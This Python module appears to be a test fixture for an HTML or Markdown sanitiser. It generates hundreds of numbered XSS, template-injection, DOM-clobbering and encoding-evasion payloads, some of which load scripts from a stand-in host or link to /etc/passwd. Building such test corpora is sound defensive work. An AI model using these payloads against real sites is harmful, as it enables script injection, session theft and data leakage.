"""Texts that try to become a part of a page: each calls `xss(N)`, asks another server, or stands in for our markup.

`N` is the number of the text, so that a test can tell which one ran. Every family is one way in; `texts` returns all
of them, or some of each family.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping

ELSEWHERE = "xss.invalid"  # no text may make the browser ask this server
CLOBBER = "xssclobber"  # no element of the page may have this id or name
PRODUCT = "1787569"  # 1337 * 1337: no template of the page computes what a text says

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onscrollend")
_SCRIPTS = (
    "<script>{c}</script>",
    "<ScRiPt >{c}</sCrIpT >",
    "<script src=//{e}/a.js></script>",
    "<script src=https://{e}/a.js async></script>",
    "<script type=module>import 'https://{e}/m.js'</script>",
    "<script>{c}//",
    "<<script>{c}//<</script>",
    "<script/x>{c}</script/x>",
    "<script\n>{c}</script\n>",
    "<script>/*<!--*/{c}/*-->*/</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<template><script>{c}</script></template>",
    "<script type=text/hyperscript>init call {c}</script>",
    '<object data="javascript:{c}">',
    '<embed src="javascript:{c}">',
    '<iframe src="javascript:{c}"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.{c}&lt;/script&gt;"></iframe>',
    "<portal src=https://{e}/>",
    "<isindex type=image src=1 onerror={c}>",
)
_EVENTS = (
    "<img src=x {h}={c}>",
    '<img src=x {h}="{c}" alt=\'',
    "<body {h}={c}>",
    "<details open {h}={c}><summary>x</summary></details>",
    "<input autofocus {h}={c}>",
    "<div tabindex=0 autofocus contenteditable {h}={c}>x</div>",
    "<video src=x {h}={c}><source {h}={c}></video>",
    "<marquee {h}={c}>x</marquee>",
)
_FOREIGN = (
    "<svg onload={c}>",
    "<svg/onload={c}//",
    "<svg><script>{c}</script></svg>",
    "<svg><script href=//{e}/s.js /></svg>",
    "<svg><script>&#120;&#115;&#115;({n})</script></svg>",
    '<svg><a xlink:href="javascript:{c}"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{c}>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={c}>#x"/></svg>',
    "<svg><image href=https://{e}/i.png></svg>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<svg><style>@import 'https://{e}/s.css';</style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;">',
    '<math href="javascript:{c}">x</math>',
    "<math><annotation-xml encoding=text/html><img src=x onerror={c}></annotation-xml></math>",
    '<svg></p><style><a id="</style><img src=1 onerror={c}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<svg><desc><noembed></desc><img src=x onerror={c}></noembed></svg>",
    '<xmp><p title="</xmp><img src=x onerror={c}>">',
    '<title><a title="</title><img src=x onerror={c}>">',
    '<textarea><p id="</textarea><img src=x onerror={c}>">',
    "<select><template><img src=x onerror={c}></template></select>",
    "<table><td><style><!--</style><img src=x onerror={c}>-->",
    "<![CDATA[<img src=x onerror={c}>]]>",
    "<!--><img src=x onerror={c}>-->",
    "<!--!><img src=x onerror={c}>-->",
    "<?xml version=1.0?><img src=x onerror={c}>",
    "<a><b></a></b><img src=x onerror={c}",
)
_ADDRESSES = (
    '<a href="javascript:{c}">x</a>',
    '<a href="jAvAsCrIpT:{c}">x</a>',
    '<a href="java&#x09;script:{c}">x</a>',
    '<a href="java\nscript:{c}">x</a>',
    '<a href="&#106;avascript:{c}">x</a>',
    '<a href=" &#14; javascript:{c}">x</a>',
    '<a href="javascript&colon;{c}">x</a>',
    '<a href="data:text/html,<script>opener.{c}</script>">x</a>',
    '<a href="vbscript:msgbox({n})">x</a>',
    "<a href=//{e}/ ping=https://{e}/p>x</a>",
    '<form action="javascript:{c}"><button>x</button></form>',
    '<button form=x formaction="javascript:{c}">x</button>',
    "<base href=https://{e}/>",
    '<meta http-equiv=refresh content="0;url=https://{e}/">',
    '<meta http-equiv=refresh content="0;url=javascript:{c}">',
    "<link rel=stylesheet href=https://{e}/s.css>",
    "<link rel=prefetch href=https://{e}/p>",
    "<img src=https://{e}/i.png>",
    '<img srcset="https://{e}/i.png 1x">',
    "<picture><source srcset=https://{e}/i.png><img></picture>",
    "<video poster=https://{e}/i.png></video>",
    "<audio src=https://{e}/a.ogg autoplay></audio>",
    "<table background=https://{e}/i.png><tr><td>x</table>",
    "<input type=image src=https://{e}/i.png>",
    "javascript:{c}",
    "data:text/html,<script>{c}</script>",
    "https://{e}/?{c}",
    "//{e}/x",
)
_MARKDOWN = (
    "[x](javascript:{c})",
    "[x](JaVaScRiPt:{c})",
    "[x](javascript&#58;{c})",
    "[x](javascript&colon;{c})",
    "[x](&#106;avascript:{c})",
    "[x](java&Tab;script:{c})",
    "[x](java&NewLine;script:{c})",
    "[x](<javascript:{c}>)",
    "[x](\x01javascript:{c})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:{c})",
    "[x](file:///etc/passwd)",
    '[x](https://{e}/ "a" onmouseover={c} ")',
    '[x](https://{e}/"onmouseover="{c})',
    "[x](https://{e}/ '\"><img src=x onerror={c}>')",
    "[x](//{e}/x)",
    "[x](/\\{e}/x)",
    "![x](https://{e}/i.png)",
    "![x](javascript:{c})",
    '![x" onerror="{c}](x)',
    '![x](x "" onerror={c})',
    "![x](data:image/svg+xml,<svg onload={c}>)",
    '!["><img src=x onerror={c}>](https://{e}/i.png "t")',
    "[![x](https://{e}/i.png)](javascript:{c})",
    "<javascript:{c}>",
    '<https://{e}/"onmouseover="{c}>',
    '<x@{e}"onclick={c}>',
    "[r{n}]\n\n[r{n}]: javascript:{c}",
    '[r{n}]\n\n[r{n}]: <https://{e}/> "" onmouseover={c}"',
    '[["><img src=x onerror={c}>]]',
    "[[x|<img src=x onerror={c}>]]",
    "[[javascript:{c}]]",
    "[[../../etc/passwd]]",
    '#tag"onmouseover={c}',
    "#<img/src=x/onerror={c}>",
    'https://{e}/"onmouseover={c}//',
    "https://{e}/'><svg/onload={c}>",
    '```html"><img src=x onerror={c}>\n</code></pre><img src=x onerror={c}>\n```',
    "`</code><img src=x onerror={c}>`",
    "~~<img src=x onerror={c}>~~ **<b onclick={c}>x</b>**",
    '| <img src=x onerror={c}> | "onload={c} |\n|---|---|\n| <svg onload={c}> | x |',
    '- [x] <img src=x onerror={c}> ^"onclick={c}',
    "> <details open ontoggle={c}>",
    "# <img src=x onerror={c}>",
    "---\ntitle: <script>{c}</script>\n---\nx",
    "<div markdown=1>[x](javascript:{c})</div>",
    "\\<img src=x onerror={c}\\>",
    "&lt;img src=x onerror={c}&gt; &#60;svg onload={c}&#62;",
    "&amp;lt;script&amp;gt;{c}&amp;lt;/script&amp;gt;",
)
_TEMPLATES = (
    "{{{{1337*1337}}}}",
    "{{% print(1337*1337) %}}",
    "${{1337*1337}}",
    "#{{1337*1337}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ csrf }}}}{{{{ config }}}}",
    "{{1337*1337:d}} %(x)s {{csrf}} {{0}}",
    "<%= 1337*1337 %>",
)
_HTMX = (
    "<div hx-get=/settings hx-trigger=load>x</div>",
    "<div hx-get=https://{e}/ hx-trigger=load>x</div>",
    "<div data-hx-post=/undo data-hx-trigger=load>x</div>",
    "<b hx-on:click={c} hx-on::load={c}>x</b>",
    '<b hx-on="load: {c}">x</b>',
    "<b hx-vals='js:{{a: {c}}}' hx-get=/ hx-trigger=load>x</b>",
    "<hx-partial hx-target=body><img src=x onerror={c}></hx-partial>",
    "<template partial hx-target=#main><img src=x onerror={c}></template>",
    '<meta name=htmx-config content=\'{{"inlineScriptNonce":"x"}}\'>',
    "<form method=post action=/undo><input name=csrf value=x><button autofocus>x</button></form>",
    "<body hx-boost=false data-live-url=https://{e}/>",
    "<p data-item data-open data-live=changes id=notice data-dismiss>x</p>",
)
_STYLES = (
    "<style>@import url(https://{e}/s.css);</style>",
    "<style>*{{background:url(https://{e}/i.png)}}</style>",
    '<p style="background:url(https://{e}/i.png)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    '<p style="animation:x" onanimationstart={c}>x</p>',
    "<p style=x:expression({c})>x</p>",
    '<link rel="stylesheet" href="data:text/css,@import\'https://{e}\'">',
    "</style><img src=x onerror={c}>",
)
_CLOBBERING = (
    "<a id={k}>x</a><a id={k} name=y>x</a>",
    "<form id={k}><input name=attributes><input name=csrf></form>",
    "<img name={k} id={k}>",
    "<input form=x id={k} name={k}>",
    "<iframe name={k}></iframe>",
    "<h2 id={k}>x</h2><p class={k}>x</p>",
)
_BREAKOUTS = (
    '">',
    "'>",
    '"',
    "'",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    '\\">',
    "</main></body>",
    "`;",
    "</svg>",
)
_CORES = (
    "<img src=x onerror={c}>",
    "<svg/onload={c}>",
    ' onmouseover={c} x="',
    " autofocus onfocus={c} tabindex=1 a=",
    "{c}//",
    "<script>{c}</script>",
)
_UNICODE = (
    "\u202e<img src=x onerror={c}>\u202c",
    "\ufeff<script>{c}</script>",
    "＜script＞{c}＜/script＞",
    "‹img src=x onerror={c}›",
    "<\u200bscript>{c}</script>",
    "<s\u00adcript>{c}</script>",
    "<img src=x on\u200berror={c}>",
    "java\u200bscript:{c}",
    "[x](java\u00adscript:{c})",
    "\x00<script>{c}</script>",
    "<scr\x00ipt>{c}</script>",
    "<img\x0bsrc=x\x0conerror={c}>",
    "\u2028<img src=x onerror={c}>\u2029",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "%3Cscript%3E{c}%3C/script%3E",
    "%253Cscript%253E{c}",
    "\\u003cscript\\u003e{c}",
    "\\x3cscript\\x3e{c}",
    "&#x3c;script&#x3e;{c}",
    "&#0000060script&#0000062{c}",
    "\ud83d\ude00<svg onload={c}>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\x1b]8;;javascript:{c}\x07x\x1b]8;;\x07",
)


def families() -> Mapping[str, tuple[str, ...]]:
    """The texts of each family, with places for their numbers."""
    return {
        "scripts": _SCRIPTS,
        "events": tuple(one.replace("{h}", handler) for one in _EVENTS for handler in _HANDLERS),
        "SVG and MathML": _FOREIGN,
        "addresses": _ADDRESSES,
        "Markdown": _MARKDOWN,
        "templates": _TEMPLATES,
        "htmx": _HTMX,
        "styles": _STYLES,
        "clobbering": _CLOBBERING,
        "breakouts": tuple(begin + core for begin in _BREAKOUTS for core in _CORES),
        "Unicode": _UNICODE,
    }


def texts(of_each: int | None = None) -> list[str]:
    """All texts; or so many of each family, spread over it."""
    return [
        text.format(c=f"xss({number})", n=number, e=ELSEWHERE, k=CLOBBER)
        for number, text in enumerate(_chosen(of_each))
    ]


def _chosen(of_each: int | None) -> Iterator[str]:
    for family in families().values():
        step = 1 if of_each is None else max(1, len(family) // of_each)
        yield from family[::step]
